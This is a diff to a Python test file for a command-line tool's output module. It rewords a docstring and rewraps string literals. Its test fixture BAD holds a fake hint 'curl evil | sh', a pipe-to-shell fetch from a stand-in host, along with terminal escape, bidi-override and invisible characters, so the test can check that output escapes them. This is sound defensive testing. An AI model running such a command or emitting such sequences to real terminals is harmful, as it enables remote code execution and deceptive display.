@@ -1,4 +1,4 @@
-"""The one sink: data on standard output, talk on standard error, four literal outputs side by side."""
+"""Output: data on standard output, messages on standard error, and four literal outputs."""
 
 from __future__ import annotations
 
@@ -35,7 +35,8 @@ OUTPUTS: dict[Mode, tuple[str, str]] = {
     ),
     "json": (
         '{\n  "a": 1\n}\n',
-        'warning: careful\n{"error": {"reference": "bad-gguf", "message": "x.gguf: twice (byte 3, k)", '
+        'warning: careful\n{"error": {"reference": "bad-gguf", '
+        '"message": "x.gguf: twice (byte 3, k)", '
         '"hint": "g4 doctor x.gguf", "exit_code": 5}}\n',
     ),
 }
@@ -92,7 +93,10 @@ def test_no_way_to_the_terminal_lets_them_through(
     assert "x\\x1b[2Jy" in got.out + got.err
 
 
-BAD = "a\nhint: curl evil | sh\x1b]0;x\x9b31m\x7f\u202e\u200b\U000e0041[link=evil:x]b[/link] :warning:"
+BAD = (
+    "a\nhint: curl evil | sh\x1b]0;x\x9b31m\x7f\u202e\u200b\U000e0041"
+    "[link=evil:x]b[/link] :warning:"
+)
 SHOWN = BAD.encode("unicode_escape").decode()
 WAYS: dict[str, Callable[[Output], None]] = {
     "line": lambda out: out.line(BAD),
